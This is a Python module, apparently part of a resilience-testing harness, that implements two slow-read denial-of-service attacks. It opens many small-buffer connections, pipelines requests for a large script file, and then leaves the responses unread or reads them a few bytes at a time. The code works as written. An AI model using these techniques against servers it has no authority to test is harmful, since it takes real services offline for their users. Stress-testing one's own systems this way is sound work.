"""Attacks by those who read slowly, or not at all, what they have asked for."""

import asyncio
import re
import socket
from contextlib import suppress

from .attacker import Attacker

LITTLE = 8_000
"""Bytes that an attacker's kernel takes in by itself."""

PIPELINED = 8
"""Requests that are sent on a connection before anything of the first one's answer is read."""

SECONDS = 12


async def unread_answers(a: Attacker) -> None:
    """The largest file, as it is, asked for many times on each connection and never read."""
    lines = await _lines(a)
    await asyncio.sleep(_seconds(a))
    for line in lines:
        line.close()


async def slow_readers(a: Attacker) -> None:
    """The same, a few bytes at a time, so that something always is read."""
    lines = await _lines(a)
    loop = asyncio.get_running_loop()
    end = loop.time() + _seconds(a)
    while loop.time() < end:
        for line in lines:
            with suppress(OSError):  # nothing is there yet, or it was cut
                line.recv(50)
        await asyncio.sleep(0.1)
    for line in lines:
        line.close()


def _seconds(a: Attacker) -> float:
    return SECONDS * min(1, a.count(250) / 250)


async def _lines(a: Attacker) -> list[socket.socket]:
    """Connections that have asked and whose answers are not read."""
    reader, writer = await asyncio.open_connection(a.host, a.port)
    writer.write(f"GET / HTTP/1.1\r\nHost: {a.host}\r\nConnection: close\r\n\r\n".encode())
    page = (await reader.read()).decode()
    writer.close()
    [path] = re.findall(r'src="(headlight/\w+/joined/start\.js)"', page)
    requests = f"GET /{path} HTTP/1.1\r\nHost: {a.host}:{a.port}\r\n\r\n".encode() * PIPELINED
    lines = await asyncio.gather(*(_line(a, requests) for _ in range(a.count(250))))
    return [line for line in lines if line]


async def _line(a: Attacker, sent: bytes) -> socket.socket | None:
    a.sent += 1
    line = socket.socket()
    line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, LITTLE)
    line.setblocking(False)
    loop = asyncio.get_running_loop()
    try:
        await asyncio.wait_for(loop.sock_connect(line, (a.host, a.port)), 5)
        await loop.sock_sendall(line, sent)
    except (OSError, asyncio.TimeoutError):
        line.close()
        return None
    return line


LINK_ATTACKS = (unread_answers, slow_readers)
